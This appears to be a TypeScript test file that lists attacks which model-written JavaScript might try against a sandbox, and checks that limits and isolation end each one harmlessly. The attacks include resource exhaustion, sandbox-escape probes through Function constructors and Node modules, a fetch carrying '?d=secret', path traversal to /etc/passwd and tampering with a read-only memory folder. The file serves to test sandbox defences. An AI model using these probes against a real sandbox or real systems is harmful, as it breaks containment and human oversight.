// What a model's code could try against the sandbox, and how each of them has to end.
import type { ClientTools } from '../../src/index.js';

/** One attack. It ends by one of the limits, or harmlessly with a result that has a text in it. */
export interface Attack {
  name: string;
  code: string;
  /** The limits of which the error has to name one: with two, it depends on the machine which is met first. */
  limit?: Limit | Limit[];
  /** What the result, or the error, has to contain where the code is refused or does no harm. */
  says?: string;
  /** A file that is there before. */
  file?: [path: string, content: string];
}

type Limit = 'time' | 'memory' | 'stack' | 'timers' | 'output' | 'size' | 'result';

/** Short, so that all attacks that last until it take seconds together. */
export const timeoutMs = 250;
/** For all others: another limit ends them first. */
export const patientMs = 20_000;
export const sizes = { fileBytes: 1 << 20, projectBytes: 4 << 20 };

/** How the error names each limit. */
export const named: Record<Limit, string> = {
  time: 'time limit of ',
  memory: 'memory limit of 256 MiB passed',
  stack: 'stack limit of 10,000 nested calls',
  timers: 'limit of 10,000 pending timers passed',
  output: 'characters left out: the limit is 1048576',
  size: 'the size limit of a file or of the project was passed',
  result: 'characters',
};

const deep = 'let a = []; for (let i = 0; i < 100_000; i++) a = [a]; ';

export const attacks: Attack[] = [
  // Endless loops.
  { name: 'loop', code: 'while (true) {}', limit: 'time' },
  { name: 'loop that writes a file first', code: "fs.writeFileSync('/canary.txt', 'gone'); for (;;);", limit: 'time' },
  { name: 'loop in catch and finally', code: 'for (;;) { try { throw 1 } catch {} finally { continue } }', limit: 'time' },
  { name: 'loop after the error', code: 'try { while (true) {} } finally { while (true) {} }', limit: 'time' },
  { name: 'promise jobs', code: 'const f = () => Promise.resolve().then(f); await f()', limit: 'time' },
  { name: 'microtasks', code: 'const f = () => queueMicrotask(f); f(); await new Promise(() => {})', limit: 'time' },
  { name: 'thenable that gives itself', code: 'return { then(done) { done(this) } }', limit: 'time' },
  { name: 'generator', code: 'for (const x of (function* () { while (true) yield 1 })());', limit: 'time' },
  { name: 'iterator in destructuring', code: 'const [...all] = { [Symbol.iterator]: () => ({ next: () => ({ done: false }) }) }', limit: ['time', 'memory'] },
  { name: 'files in a loop', code: "for (;;) fs.existsSync('/canary.txt')", limit: 'time' },
  { name: 'console in a loop', code: "for (;;) console.log('x'.repeat(1000))", limit: 'time' },
  { name: 'library script', code: 'return 1', file: ['/lib/a.js', 'for (;;);'], limit: 'time' },
  { name: 'required file', code: "require('/a.js')", file: ['/a.js', 'for (;;);'], limit: 'time' },
  { name: 'eval', code: "eval('while (true) {}')", limit: 'time' },
  { name: 'Function', code: "new Function('while (true) {}')()", limit: 'time' },
  { name: 'constructor of a constructor', code: "(() => {}).constructor.constructor('for (;;);')()", limit: 'time' },
  // Callbacks from builtins and from the host.
  { name: 'loop in sort', code: '[2, 1].sort(() => { for (;;); })', limit: 'time' },
  { name: 'loop in a proxy', code: 'new Proxy({}, { get() { for (;;); } }).x', limit: 'time' },
  { name: 'getter of what is shown', code: 'return { get [Symbol.toStringTag]() { for (;;); } }', limit: 'time' },
  { name: 'toJSON of the value', code: 'return { toJSON() { for (;;); } }', limit: 'time' },
  { name: 'loop while printed', code: "console.log({ [Symbol.for('nodejs.util.inspect.custom')]() { for (;;); } })", limit: 'time' },
  { name: 'toString of a path', code: "fs.writeFileSync({ toString() { for (;;); } }, 'x'); return 'no'", says: 'TypeError' },
  { name: 'loop in toPrimitive of a number', code: "'x'.repeat({ [Symbol.toPrimitive]() { for (;;); } })", limit: 'time' },
  // Timers that never end.
  { name: 'interval', code: 'setInterval(() => {}, 1); await new Promise(() => {})', limit: 'time' },
  { name: 'long timer', code: 'await new Promise((done) => setTimeout(done, 1e9))', limit: 'time' },
  { name: 'loop in a timer', code: 'setTimeout(() => { for (;;); }); await new Promise(() => {})', limit: 'time' },
  { name: 'nothing to wait for', code: 'await new Promise(() => {})', says: 'Error' },
  { name: 'timers without end', code: 'for (;;) setTimeout(() => {}, 1e6)', limit: 'timers' },
  // Work inside of one builtin.
  { name: 'catastrophic regular expression', code: "return /^(a+)+\\1$/.test('a'.repeat(40) + 'b')", limit: 'time' },
  { name: 'catastrophic lookahead', code: "return /^(?=((x|xx|x)+)+$)/.test('x'.repeat(60) + 'y')", limit: 'time' },
  { name: 'filling a large array', code: 'return new Array(1e9).fill(0).length', limit: ['time', 'memory'] },
  { name: 'Array.from of a large length', code: 'return Array.from({ length: 2 ** 32 - 1 }, (_, i) => i).length', limit: ['time', 'memory'] },
  {
    name: 'holes',
    code: 'const a = []; a[2 ** 32 - 2] = 1; a.length = 2 ** 32 - 1; return Array.prototype.reverse.call({ length: 2 ** 53 - 1 })',
    limit: 'time',
  },
  { name: 'large power', code: 'let n = 3n; for (;;) n **= 1000n', limit: ['time', 'memory'] },
  // Memory.
  { name: 'one long string', code: "return 'x'.repeat(2 ** 28).length", limit: ['time', 'memory'] },
  { name: 'padding', code: "return ''.padStart(2 ** 29, 'ab').length", limit: 'memory' },
  { name: 'one large buffer', code: 'return new Uint8Array(2 ** 30).length', limit: 'memory' },
  { name: 'many buffers', code: 'const a = []; for (;;) a.push(new ArrayBuffer(1 << 24))', limit: ['time', 'memory'] },
  { name: 'string doubled', code: "let s = 'x'; for (;;) s += s", limit: ['time', 'memory'] },
  { name: 'joined holes', code: "return new Array(2 ** 27).join('xxxxxxxx').length", limit: ['time', 'memory'] },
  { name: 'growing map', code: "const m = new Map(); for (let i = 0; ; i++) m.set(i, 'x'.repeat(1e5) + i)", limit: ['time', 'memory'] },
  { name: 'growing replacement', code: "return 'x'.repeat(1e6).replace(/x/g, 'y'.repeat(1e6)).length", limit: ['time', 'memory'] },
  // Recursion.
  { name: 'recursion', code: 'const f = () => f(); f()', limit: 'stack' },
  { name: 'recursion through a getter', code: 'const o = { get x() { return this.x } }; o.x', limit: 'stack' },
  { name: 'recursion through toString', code: 'const o = { toString() { return String(this) } }; String(o)', limit: 'stack' },
  { name: 'recursion through sort', code: 'const f = () => [1, 2].sort(f); f()', limit: 'stack' },
  { name: 'recursion through JSON', code: 'const o = { toJSON: () => JSON.stringify(o) }; JSON.stringify(o)', limit: 'stack' },
  { name: 'recursion through a proxy', code: 'const p = new Proxy({}, { get: (_, k, r) => r[k] }); p.x', limit: 'stack' },
  { name: 'recursion through constructors', code: 'class A { constructor() { new A() } } new A()', limit: 'stack' },
  { name: 'recursion through replace', code: "const f = () => 'a'.replace('a', f); f()", limit: 'stack' },
  { name: 'recursion through await', code: 'await (async function f() { await f() })()', limit: 'stack' },
  { name: 'recursion through eval', code: "globalThis.f = () => eval('f()'); f()", limit: 'stack' },
  { name: 'recursion through Symbol.toPrimitive', code: 'const o = { [Symbol.toPrimitive]() { return +o } }; +o', limit: 'stack' },
  { name: 'deep value as JSON', code: deep + 'return JSON.stringify(a).length', limit: ['stack', 'time'] },
  { name: 'deep value shown', code: deep + 'return a', limit: ['stack', 'time'] },
  { name: 'deep value flattened', code: deep + 'return a.flat(Infinity)', limit: ['stack', 'time'] },
  { name: 'deep JSON', code: "return JSON.parse('['.repeat(1e6))", says: 'Error' },
  { name: 'deep code', code: "return eval('('.repeat(1e5) + ')'.repeat(1e5))", says: 'Error' },
  { name: 'deep regular expression', code: "return new RegExp('('.repeat(1e5) + ')'.repeat(1e5)).source.length", says: '' },
  // Output.
  { name: 'much to print', code: "for (let i = 0; i < 300; i++) console.log('x'.repeat(10_000))", limit: ['output', 'result'] },
  { name: 'a large value', code: "return 'x'.repeat(3e6)", limit: ['output', 'result'] },
  { name: 'a large error', code: "throw new Error('x'.repeat(3e6))", limit: ['output', 'result'] },
  { name: 'a value of many parts', code: 'return Array.from({ length: 2000 }, (_, i) => ({ i }))', says: 'more items' },
  // Prototypes and constructors.
  {
    name: 'polluted prototypes',
    code: "Object.prototype.command = 'x'; Array.prototype[0] = 'y'; Object.prototype.then = (f) => f('z'); return 'polluted'",
    says: '',
  },
  {
    name: 'replaced builtins',
    code: "JSON.stringify = () => 'broken'; Promise.prototype.then = () => {}; Array.prototype.push = () => {}; return { a: 1 }",
    says: '',
  },
  {
    name: 'the global object behind Function',
    code: "const g = Function('return this')(); return [g === globalThis, typeof g.process.binding, typeof g.postMessage, typeof g.indexedDB, typeof g.window, typeof g.Go].join()",
    says: 'true,undefined,undefined,undefined,undefined,undefined',
  },
  {
    name: 'constructors of host functions',
    code: "return [fs.readFileSync, console.log, setTimeout].map((f) => typeof f.constructor('return typeof self + typeof require + typeof WebAssembly')() ).join()",
    says: 'string',
  },
  {
    name: 'modules of the machine',
    code: "return ['child_process', 'net', 'vm', 'worker_threads'].map((m) => { try { require(m); return m } catch (e) { return e.code } }).join()",
    says: 'MODULE_NOT_FOUND,MODULE_NOT_FOUND,MODULE_NOT_FOUND,MODULE_NOT_FOUND',
  },
  { name: 'the network', code: "return await fetch('https://example.com/?d=secret').catch((e) => e.message)", says: 'fetch is not allowed' },
  { name: 'prepareStackTrace', code: "Error.prepareStackTrace = (e, frames) => frames[0].getThis(); return String(new Error('x').stack)", says: 'Error: x' },
  { name: 'ending the process', code: "process.exit(3); return 'after'", says: '' },
  // Hooks into the bridge to the host.
  { name: 'thrown proxy', code: 'throw new Proxy({}, { get() { throw 1 }, getPrototypeOf() { throw 2 } })', says: '' },
  {
    name: 'error with a stack that throws',
    code: "const e = new Error('x'); Object.defineProperty(e, 'stack', { get() { throw e } }); throw e",
    says: 'Uncaught value that cannot be shown',
  },
  { name: 'revoked proxy', code: 'const { proxy, revoke } = Proxy.revocable({}, {}); revoke(); return proxy', says: '' },
  {
    name: 'bytes that lie about their length',
    code: "class L extends Uint8Array { get length() { return 2 ** 40 } get byteLength() { return 2 ** 40 } } fs.writeFileSync('/l.bin', new L(3)); return fs.statSync('/l.bin').size",
    says: '3',
  },
  { name: 'options with getters', code: "fs.readFileSync('/canary.txt', { get encoding() { throw new Error('from a getter') } })", says: 'from a getter' },
  // Files.
  { name: 'writing to the memory', code: "fs.writeFileSync('/memories/canary.md', 'gone')", says: 'EROFS' },
  { name: 'removing the memory', code: "fs.rmSync('/memories', { recursive: true, force: true })", says: 'EROFS' },
  { name: 'renaming the memory', code: "fs.renameSync('/memories', '/m')", says: 'EROFS' },
  { name: 'memory by a detour', code: "fs.writeFileSync('/a/../memories/./canary.md', 'gone')", says: 'EROFS' },
  { name: 'a path out of the project', code: "return fs.readFileSync('/../../../../etc/passwd', 'utf8')", says: 'ENOENT' },
  { name: 'the other project', code: "return fs.readFileSync('/../attack neighbour/canary.txt', 'utf8')", says: 'ENOENT' },
  { name: 'NUL in a path', code: "fs.writeFileSync('/canary.txt\\0.png', 'gone')", says: 'Error' },
  { name: 'a path without end', code: "fs.writeFileSync('/' + 'a/'.repeat(1e4) + 'b', 'x')", says: 'E' },
  {
    name: 'a file named __proto__',
    code: "fs.writeFileSync('/__proto__', '{\"polluted\": 1}'); return [typeof {}.polluted, fs.readdirSync('/').includes('__proto__')].join()",
    says: 'undefined,true',
  },
  // Filling the disk.
  { name: 'a large file', code: "fs.writeFileSync('/large.txt', 'x'.repeat(2 << 20))", limit: 'size' },
  { name: 'a growing file', code: "for (;;) fs.appendFileSync('/grows.txt', 'x'.repeat(1 << 18))", limit: 'size' },
  { name: 'many files', code: "for (let i = 0; ; i++) fs.writeFileSync('/f' + i, 'x'.repeat(1 << 19))", limit: 'size' },
];

/** How an attack went. */
export interface Ending {
  name: string;
  /** From the call to its result. */
  ms: number;
  /** That beyond the limit of time; below zero where it ended before. */
  over: number;
  content: string;
  /** What does not hold; empty if everything does. */
  wrong: string[];
}

/** Attacks one after another, each followed by looks at what it must not harm. With `orTime`, for slow hosts, time may end what another limit should. Sent to a page as its source text: it refers to nothing outside of itself. */
export async function endings(
  short: ClientTools,
  patient: ClientTools,
  attacks: Attack[],
  named: Record<string, string>,
  timesMs: [short: number, patient: number],
  orTime = false,
): Promise<Ending[]> {
  const all: Ending[] = [];
  for (const [i, { name, code, limit, says, file }] of [
    { name: '', code: '1', says: '1' } as Attack,
    { name: '', code: '1', limit: 'time' } as Attack,
    ...attacks,
  ].entries()) {
    const tools = [limit].flat().includes('time') ? short : patient;
    const run = (code: string, projectId: string) => tools.executeClientSideTool('javascript', { code }, ['javascript'], {}, { projectId });
    const neighbour = tools.files('attack neighbour');
    if (name === '') {
      await neighbour.write('/canary.txt', 'sings');
      await run(code, 'attack neighbour'); // loads the sandbox, which is not billed
      continue;
    }
    const projectId = `attack ${i}`;
    const files = tools.files(projectId);
    await files.write('/canary.txt', 'sings');
    await files.write('/memories/canary.md', 'sings too');
    if (file) await files.write(file[0], file[1]);
    const startedAt = Date.now();
    const { content, isError } = await run(code, projectId);
    const ms = Date.now() - startedAt;
    if (file) await files.remove(file[0]);
    const wrong: string[] = [];
    const hold = (what: string, holds: boolean) => void (holds || wrong.push(what));
    const names = limit === undefined ? [] : [limit].flat();
    if (orTime && names.length > 0) names.push('time');
    if (names.length > 0)
      hold(
        `names the limit of ${names.join(' or ')}`,
        names.some((one) => content.includes(named[one]!)),
      );
    if (!names.some((one) => one === 'output' || one === 'result')) hold('is an error', names.length === 0 || isError === true);
    if (says !== undefined) hold(`says ${says}`, content.includes(says));
    hold('tells of nothing inside', !/panic|goroutine|runtime error|sandbox failed|RuntimeError/.test(content));
    const look = () => run("return [1 + 1, typeof {}.command, JSON.stringify([1]), fs.readFileSync('/canary.txt', 'utf8')].join()", projectId);
    let next = await look();
    // So short a limit is over at times before a busy machine has begun.
    for (let tries = 0; tries < 3 && next.content.includes('time limit of '); tries++) next = await look();
    hold('leaves the next call alone', next.content === '2,undefined,[1],sings');
    hold('leaves the memory alone', (await files.readText('/memories/canary.md')) === 'sings too');
    hold('leaves other projects alone', (await neighbour.readText('/canary.txt')) === 'sings');
    await tools.deleteProject(projectId);
    all.push({
      name,
      ms,
      over: ms - timesMs[tools === short ? 0 : 1],
      content: content.slice(0, 300) + (content.length > 600 ? ' … ' : '') + content.slice(300).slice(-300),
      wrong,
    });
  }
  return all;
}

/** The endings as a table, with what each took beyond the limit of time. */
export function table(all: Ending[]): string {
  const width = Math.max(...all.map(({ name }) => name.length));
  const rows = all.map(({ name, ms, over, content, wrong }) => {
    const beyond = over > 0 ? `+${over}` : '';
    const said =
      wrong.length > 0
        ? `WRONG: ${wrong.join('; ')}: ${content}`
        : (content
            .trim()
            .split('\n')
            .find((line) => /limit|Error/.test(line)) ?? content);
    return `${name.padEnd(width)} ${String(ms).padStart(5)} ms ${beyond.padStart(6)}  ${said.replaceAll('\n', ' ').slice(0, wrong.length > 0 ? 900 : 90)}`;
  });
  return `attack, time, beyond the limit of time, how it ended\n${rows.join('\n')}\n`;
}
